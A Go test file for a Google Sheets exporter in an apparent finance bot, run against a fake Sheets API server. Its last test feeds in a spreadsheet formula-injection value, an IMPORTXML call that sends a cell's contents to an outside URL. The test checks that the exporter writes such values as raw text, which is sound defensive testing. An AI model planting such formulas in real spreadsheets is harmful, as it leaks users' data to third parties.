package google

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	goption "google.golang.org/api/option"
	gsheet "google.golang.org/api/sheets/v4"
)

type fakeSheetsAPI struct {
	mu      sync.Mutex
	titles  []string
	added   []string
	cleared int
	written [][]interface{}
	input   string
}

func (f *fakeSheetsAPI) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	defer f.mu.Unlock()

	w.Header().Set("Content-Type", "application/json")
	switch {
	case strings.HasSuffix(r.URL.Path, ":batchUpdate"):
		var req gsheet.BatchUpdateSpreadsheetRequest
		_ = json.NewDecoder(r.Body).Decode(&req)
		for _, rq := range req.Requests {
			if rq.AddSheet != nil {
				f.added = append(f.added, rq.AddSheet.Properties.Title)
				f.titles = append(f.titles, rq.AddSheet.Properties.Title)
			}
		}
		_, _ = w.Write([]byte(`{}`))
	case strings.HasSuffix(r.URL.Path, ":clear"):
		f.cleared++
		_, _ = w.Write([]byte(`{}`))
	case strings.Contains(r.URL.Path, "/values/") && r.Method == http.MethodPut:
		var vr gsheet.ValueRange
		_ = json.NewDecoder(r.Body).Decode(&vr)
		f.written = vr.Values
		f.input = r.URL.Query().Get("valueInputOption")
		_, _ = w.Write([]byte(`{}`))
	default:
		ss := gsheet.Spreadsheet{}
		for _, title := range f.titles {
			ss.Sheets = append(ss.Sheets, &gsheet.Sheet{Properties: &gsheet.SheetProperties{Title: title}})
		}
		_ = json.NewEncoder(w).Encode(ss)
	}
}

func newTestExporter(t *testing.T, api *fakeSheetsAPI) *Exporter {
	t.Helper()
	srv := httptest.NewServer(api)
	t.Cleanup(srv.Close)

	e, err := NewWithOptions(context.Background(), "sheet-id", "finbot_",
		goption.WithEndpoint(srv.URL+"/"),
		goption.WithoutAuthentication())
	if err != nil {
		t.Fatalf("NewWithOptions: %v", err)
	}
	return e
}

func TestNewWithOptionsRequiresSpreadsheetID(t *testing.T) {
	if _, err := NewWithOptions(context.Background(), "  ", "x", goption.WithoutAuthentication()); err == nil {
		t.Fatal("expected error for empty spreadsheet id")
	}
}

func TestSheetName(t *testing.T) {
	e := &Exporter{prefix: "finbot_"}
	if got := e.SheetName(42); got != "finbot_42" {
		t.Errorf("SheetName = %q, want finbot_42", got)
	}
}

func TestQuoteSheet(t *testing.T) {
	if got := quoteSheet("it's"); got != "'it''s'" {
		t.Errorf("quoteSheet = %q", got)
	}
}

func TestExportRowsCreatesTabOnce(t *testing.T) {
	api := &fakeSheetsAPI{titles: []string{"Other"}}
	e := newTestExporter(t, api)
	rows := [][]string{
		{"Date", "Type", "Category", "Amount"},
		{"2026-10-18", "expense", "food", "12.5"},
	}

	for i := 0; i < 2; i++ {
		ref, err := e.ExportRows(context.Background(), 7, rows)
		if err != nil {
			t.Fatalf("ExportRows %d: %v", i, err)
		}
		if ref != "finbot_7" {
			t.Errorf("ref = %q, want finbot_7", ref)
		}
	}

	api.mu.Lock()
	defer api.mu.Unlock()
	if len(api.added) != 1 || api.added[0] != "finbot_7" {
		t.Errorf("added sheets = %v, want [finbot_7]", api.added)
	}
	if api.cleared != 2 {
		t.Errorf("cleared = %d, want 2", api.cleared)
	}
	if len(api.written) != 2 || api.written[1][2] != "food" {
		t.Errorf("written = %v", api.written)
	}
}

func TestExportRowsWritesFormulasAsText(t *testing.T) {
	api := &fakeSheetsAPI{}
	e := newTestExporter(t, api)
	category := `=IMPORTXML("http://example.com/?"&'finbot_1'!C2,"//a")`
	rows := [][]string{
		{"Date", "Type", "Category", "Amount"},
		{"2026-10-18", "expense", category, "1"},
	}

	if _, err := e.ExportRows(context.Background(), 2, rows); err != nil {
		t.Fatalf("ExportRows: %v", err)
	}

	api.mu.Lock()
	defer api.mu.Unlock()
	if api.input != "RAW" {
		t.Errorf("valueInputOption = %q, want RAW", api.input)
	}
	if len(api.written) != 2 || api.written[1][2] != category {
		t.Errorf("category cell = %v, want %q", api.written, category)
	}
}
